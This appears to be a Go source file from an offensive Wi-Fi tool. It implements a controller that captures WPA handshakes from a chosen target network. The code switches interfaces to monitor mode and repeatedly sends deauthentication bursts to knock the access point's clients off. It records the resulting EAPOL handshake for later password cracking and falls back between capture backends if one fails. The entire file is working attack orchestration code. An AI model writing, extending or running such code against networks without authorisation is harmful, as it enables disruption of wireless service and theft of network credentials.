// Package handshake runs the dual-interface WPA handshake capture attack.
package handshake

import (
	"context"
	"fmt"
	"log"
	"os"
	"sync"
	"time"

	"github.com/google/uuid"
	"go.opentelemetry.io/otel"
	"go.opentelemetry.io/otel/attribute"

	"github.com/lcr-sec/dualstrike/internal/core/domain"
	"github.com/lcr-sec/dualstrike/internal/core/ports"
	"github.com/lcr-sec/dualstrike/internal/core/services/backend"
	"github.com/lcr-sec/dualstrike/internal/core/services/channelsync"
	"github.com/lcr-sec/dualstrike/internal/core/services/cleanup"
	"github.com/lcr-sec/dualstrike/internal/core/services/deauth"
	"github.com/lcr-sec/dualstrike/internal/core/timer"
	"github.com/lcr-sec/dualstrike/internal/telemetry"
)

// State is the controller's position in the capture lifecycle.
type State string

const (
	StateIdle                 State = "idle"
	StateInterfacesConfigured State = "interfaces_configured"
	StateBackendSelected      State = "backend_selected"
	StateCapturing            State = "capturing"
	StateFallbackCapturing    State = "fallback_capturing"
	StateHandshakeCaptured    State = "handshake_captured"
	StateExhausted            State = "exhausted"
	StateCleaningUp           State = "cleaning_up"
)

// captureSizeWarnBytes is the capture file size past which the controller
// warns once that downstream conversion will slow down.
const captureSizeWarnBytes = 50 * 1024 * 1024

// Config tunes the capture loop.
type Config struct {
	// AttackTimeout bounds the whole attempt. Non-positive means no limit.
	AttackTimeout time.Duration

	// DeauthInterval is how often deauth bursts are scheduled.
	DeauthInterval time.Duration

	// StepInterval is the main loop's polling period.
	StepInterval time.Duration

	// GracePeriod is how long the modern backend may run without producing
	// data before the controller falls back to the legacy backend.
	GracePeriod time.Duration
}

func (c *Config) applyDefaults() {
	if c.DeauthInterval <= 0 {
		c.DeauthInterval = 10 * time.Second
	}
	if c.StepInterval <= 0 {
		c.StepInterval = time.Second
	}
	if c.GracePeriod <= 0 {
		c.GracePeriod = 30 * time.Second
	}
}

// Controller drives one handshake capture attempt against one target. The
// main loop is single-threaded cooperative polling; the only concurrency is
// inside the deauth scheduler, which joins all its units before returning.
type Controller struct {
	cfg          Config
	configurator ports.InterfaceConfigurator
	selector     *backend.Selector
	modern       ports.CaptureBackend
	legacy       ports.CaptureBackend
	channels     *channelsync.Synchronizer
	scheduler    *deauth.Scheduler
	store        ports.SessionStore

	mu         sync.Mutex
	state      State
	session    *domain.AttackSession
	fellBack   bool
	sizeWarned bool
	logger     func(message, level string)
}

// NewController builds a handshake controller. store may be nil, in which
// case the stored-handshake shortcut is skipped.
func NewController(
	cfg Config,
	configurator ports.InterfaceConfigurator,
	selector *backend.Selector,
	modern, legacy ports.CaptureBackend,
	channels *channelsync.Synchronizer,
	scheduler *deauth.Scheduler,
	store ports.SessionStore,
) *Controller {
	cfg.applyDefaults()
	return &Controller{
		cfg:          cfg,
		configurator: configurator,
		selector:     selector,
		modern:       modern,
		legacy:       legacy,
		channels:     channels,
		scheduler:    scheduler,
		store:        store,
		state:        StateIdle,
	}
}

// SetLogger configures an optional logging callback.
func (c *Controller) SetLogger(logger func(message, level string)) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.logger = logger
}

func (c *Controller) log(message, level string) {
	c.mu.Lock()
	logger := c.logger
	c.mu.Unlock()

	if logger != nil {
		logger(message, level)
		return
	}
	log.Printf("[HANDSHAKE] %s", message)
}

// State returns the controller's current lifecycle state.
func (c *Controller) State() State {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.state
}

// Session returns a snapshot of the session being driven, or nil outside
// Run.
func (c *Controller) Session() *domain.AttackSession {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.session == nil {
		return nil
	}
	return c.session.Snapshot()
}

func (c *Controller) transition(s State) {
	c.mu.Lock()
	c.state = s
	c.mu.Unlock()
}

// Run executes the capture attempt. The terminal outcome is recorded on the
// session; a non-nil error means the attempt could not even be set up
// (interface configuration or backend start failure). Cleanup runs exactly
// once on every exit path.
func (c *Controller) Run(ctx context.Context, session *domain.AttackSession) error {
	tracer := otel.Tracer("dualstrike/handshake")
	ctx, span := tracer.Start(ctx, "handshake.Run")
	span.SetAttributes(
		attribute.String("target.bssid", session.TargetBSSID),
		attribute.Int("target.channel", session.Channel),
		attribute.Bool("assignment.dual", session.Assignment.IsDual()),
	)
	defer span.End()

	c.mu.Lock()
	c.session = session
	c.fellBack = false
	c.sizeWarned = false
	c.mu.Unlock()

	session.Start()
	telemetry.ActiveAttacks.Inc()
	defer telemetry.ActiveAttacks.Dec()

	// A previously captured handshake for this target short-circuits the
	// whole attempt.
	if c.store != nil {
		if hs, found, err := c.store.FindHandshake(session.TargetBSSID); err == nil && found {
			c.log(fmt.Sprintf("Handshake for %s already captured (%s), skipping",
				session.TargetBSSID, hs.FilePath), "success")
			c.transition(StateHandshakeCaptured)
			session.Finish(domain.OutcomeHandshakeCaptured)
			return nil
		}
	}

	cm := cleanup.NewManager()
	cm.SetLogger(c.log)
	defer func() {
		c.transition(StateCleaningUp)
		cm.StopAll(context.Background())
		c.transition(StateIdle)
	}()

	if err := c.configureInterfaces(ctx, session, cm); err != nil {
		session.Fail(err.Error())
		return err
	}
	c.transition(StateInterfacesConfigured)

	active := c.selectBackend(session)
	c.transition(StateBackendSelected)

	if err := active.Start(ctx, session.CaptureInterface, session.Channel, session.TargetBSSID); err != nil {
		err = fmt.Errorf("starting %s capture backend: %w", active.Kind(), err)
		session.Fail(err.Error())
		return err
	}
	cm.RegisterFunc("capture backend", func(context.Context) error {
		return c.activeBackend().Stop()
	})
	session.SetBackend(active.Kind())
	c.transition(StateCapturing)

	c.log(fmt.Sprintf("Capturing handshake for %s on %s (backend: %s, timeout: %s)",
		session.TargetBSSID, session.CaptureInterface, active.Kind(),
		timer.New(c.cfg.AttackTimeout)), "info")

	outcome := c.captureLoop(ctx, session)
	session.Finish(outcome)

	if outcome == domain.OutcomeHandshakeCaptured {
		telemetry.HandshakesCaptured.WithLabelValues(string(session.CurrentBackend())).Inc()
		c.transition(StateHandshakeCaptured)
		c.persistHandshake(session)
	} else if outcome == domain.OutcomeExhausted {
		c.transition(StateExhausted)
	}
	return nil
}

func (c *Controller) persistHandshake(session *domain.AttackSession) {
	if c.store == nil {
		return
	}
	hs := domain.CapturedHandshake{
		ID:         uuid.New().String(),
		BSSID:      session.TargetBSSID,
		ESSID:      session.TargetESSID,
		FilePath:   c.activeBackend().CaptureFile(),
		Backend:    session.CurrentBackend(),
		CapturedAt: time.Now(),
	}
	if err := c.store.SaveHandshake(hs); err != nil {
		c.log("Persisting handshake record: "+err.Error(), "warning")
	}
}

// configureInterfaces brings both assigned interfaces into monitor mode on
// the target channel. Mode failures abort the attempt; a channel-set failure
// aborts only on the capture interface. The deauth interface landing on the
// wrong channel degrades deauth effectiveness but capture still works, so
// the attempt continues with a warning. The cleanup manager restores
// interfaces that were already touched.
func (c *Controller) configureInterfaces(ctx context.Context, session *domain.AttackSession, cm *cleanup.Manager) error {
	captureIface := session.Assignment.Primary
	deauthIface := captureIface
	if session.Assignment.IsDual() {
		deauthIface = session.Assignment.Secondary
	}
	session.SetInterfaces(captureIface, deauthIface)

	for _, iface := range session.Assignment.Interfaces() {
		iface := iface
		if err := c.enterMonitor(ctx, iface); err != nil {
			return fmt.Errorf("%w: %s: %v", domain.ErrConfigurationFailed, iface, err)
		}
		cm.RegisterFunc("interface "+iface, func(stopCtx context.Context) error {
			return c.restoreManaged(stopCtx, iface)
		})
	}

	for _, res := range c.channels.SetChannels(ctx, session.Assignment, session.Channel) {
		if res.Err == nil {
			continue
		}
		if res.Interface == captureIface {
			return fmt.Errorf("%w: channel %d on %s: %v",
				domain.ErrConfigurationFailed, session.Channel, res.Interface, res.Err)
		}
		c.log(fmt.Sprintf("Continuing with %s off-channel (channel %d set failed: %v), deauth from it may be less effective",
			res.Interface, session.Channel, res.Err), "warning")
	}
	c.channels.VerifySync(ctx, session.Assignment, session.Channel)
	return nil
}

func (c *Controller) enterMonitor(ctx context.Context, iface string) error {
	if err := c.configurator.Down(ctx, iface); err != nil {
		return err
	}
	if err := c.configurator.SetMode(ctx, iface, domain.ModeMonitor); err != nil {
		return err
	}
	return c.configurator.Up(ctx, iface)
}

func (c *Controller) restoreManaged(ctx context.Context, iface string) error {
	if err := c.configurator.Down(ctx, iface); err != nil {
		return err
	}
	if err := c.configurator.SetMode(ctx, iface, domain.ModeManaged); err != nil {
		return err
	}
	return c.configurator.Up(ctx, iface)
}

func (c *Controller) selectBackend(session *domain.AttackSession) ports.CaptureBackend {
	decision := c.selector.Select()
	session.SetBackend(decision.Kind)
	if decision.Kind == domain.BackendModern {
		return c.modern
	}
	if decision.Reason != "" {
		c.log(fmt.Sprintf("Falling back to legacy capture: %s (%s)",
			decision.Reason, decision.Detail), "warning")
		telemetry.BackendFallbacks.WithLabelValues(decision.Reason).Inc()
	}
	return c.legacy
}

// activeBackend tracks which backend owns the capture so cleanup stops the
// right process after a mid-run fallback.
func (c *Controller) activeBackend() ports.CaptureBackend {
	c.mu.Lock()
	fellBack := c.fellBack
	session := c.session
	c.mu.Unlock()
	if fellBack || session.CurrentBackend() == domain.BackendLegacy {
		return c.legacy
	}
	return c.modern
}

// captureLoop is the fixed-step polling loop. It owns the session's client
// list and counters exclusively; the deauth scheduler receives snapshots.
func (c *Controller) captureLoop(ctx context.Context, session *domain.AttackSession) domain.SessionOutcome {
	attackTimer := timer.New(c.cfg.AttackTimeout)
	deauthTimer := timer.New(c.cfg.DeauthInterval)
	graceTimer := timer.New(c.cfg.GracePeriod)

	step := time.NewTicker(c.cfg.StepInterval)
	defer step.Stop()

	for {
		select {
		case <-ctx.Done():
			c.log("Attack interrupted, stopping capture", "warning")
			return domain.OutcomeStopped
		case <-step.C:
		}

		active := c.activeBackend()

		captured, err := active.HasHandshake(session.TargetBSSID)
		if err != nil {
			c.log("Handshake check failed: "+err.Error(), "warning")
		} else if captured {
			c.log(fmt.Sprintf("Captured handshake for %s (%s)",
				session.TargetBSSID, active.CaptureFile()), "success")
			return domain.OutcomeHandshakeCaptured
		}

		for _, client := range active.Clients() {
			if session.ObserveClient(client) {
				c.log(fmt.Sprintf("Discovered new client: %s", client), "info")
			}
		}

		if c.maybeFallback(ctx, session, active, graceTimer) {
			deauthTimer.Restart()
			continue
		}

		if deauthTimer.Ended() {
			deauthTimer.Restart()
			// Data on disk but still no handshake at the end of a deauth
			// round means the target produced partial EAPOL exchanges.
			if active.HasData() {
				session.RecordIncompleteHandshake()
			}
			clients := session.ClientSnapshot()
			c.scheduler.DeauthAll(ctx, session.Assignment, session.TargetBSSID, clients)
			session.AddDeauthBursts(len(session.Assignment.DeauthInterfaces()) * (len(clients) + 1))
		}

		c.warnLargeCapture(active)

		if attackTimer.Ended() {
			c.log(fmt.Sprintf("No handshake after %s, giving up on %s",
				c.cfg.AttackTimeout, session.TargetBSSID), "warning")
			return domain.OutcomeExhausted
		}
	}
}

// maybeFallback handles the runtime modern-to-legacy fallback. At most one
// fallback per attempt: a legacy backend that later dies ends the attempt
// through the normal timeout path rather than oscillating.
func (c *Controller) maybeFallback(ctx context.Context, session *domain.AttackSession, active ports.CaptureBackend, grace *timer.Countdown) bool {
	c.mu.Lock()
	fellBack := c.fellBack
	c.mu.Unlock()

	if fellBack || active.Kind() != domain.BackendModern {
		return false
	}

	var reason string
	switch {
	case !active.IsRunning():
		reason = "modern capture process died"
	case grace.Ended() && !active.HasData():
		reason = fmt.Sprintf("no data captured within %s grace period", c.cfg.GracePeriod)
	default:
		if active.HasData() {
			grace.Restart()
		}
		return false
	}

	c.log("Falling back to legacy capture: "+reason, "warning")
	telemetry.BackendFallbacks.WithLabelValues(reason).Inc()

	if err := active.Stop(); err != nil {
		c.log("Stopping modern backend: "+err.Error(), "warning")
	}
	if err := c.legacy.Start(ctx, session.CaptureInterface, session.Channel, session.TargetBSSID); err != nil {
		c.log("Legacy backend failed to start: "+err.Error(), "error")
		return false
	}

	session.SetBackend(domain.BackendLegacy)
	c.mu.Lock()
	c.fellBack = true
	c.state = StateFallbackCapturing
	c.mu.Unlock()
	return true
}

// warnLargeCapture emits the one-time oversized-capture warning.
func (c *Controller) warnLargeCapture(active ports.CaptureBackend) {
	c.mu.Lock()
	warned := c.sizeWarned
	c.mu.Unlock()
	if warned {
		return
	}

	path := active.CaptureFile()
	if path == "" {
		return
	}
	info, err := os.Stat(path)
	if err != nil || info.Size() <= captureSizeWarnBytes {
		return
	}

	c.mu.Lock()
	c.sizeWarned = true
	c.mu.Unlock()
	c.log(fmt.Sprintf("Capture file is %dMB, conversion will be slow",
		info.Size()/(1024*1024)), "warning")
}
